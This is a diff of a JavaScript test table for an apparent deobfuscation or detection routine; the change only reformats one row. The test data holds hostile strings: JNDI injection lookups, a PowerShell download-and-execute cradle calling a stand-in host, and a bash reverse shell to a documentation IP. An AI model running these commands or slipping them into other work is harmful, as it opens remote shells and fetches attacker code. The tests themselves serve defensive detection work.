@@ -16,7 +16,11 @@ test.each([
   ['\\u0024\\u007bjndi:ldap://x}', '${jndi:ldap://x}', ['escape']],
   ['\\x24{jndi}', '${jndi}', ['escape']],
   [`powershell -enc ${powershell}`, 'powershell -enc IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")', ['base64']],
-  [`x=${Buffer.from('/bin/bash -i >& /dev/tcp/198.51.100.7/4444').toString('base64')}`, 'x=/bin/bash -i >& /dev/tcp/198.51.100.7/4444', ['base64']],
+  [
+    `x=${Buffer.from('/bin/bash -i >& /dev/tcp/198.51.100.7/4444').toString('base64')}`,
+    'x=/bin/bash -i >& /dev/tcp/198.51.100.7/4444',
+    ['base64'],
+  ],
   ['ｐｏｗｅｒｓｈｅｌｌ', 'powershell', ['unicode']],
   ['p\u200bowershell', 'powershell', ['unicode']],
   ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', []],
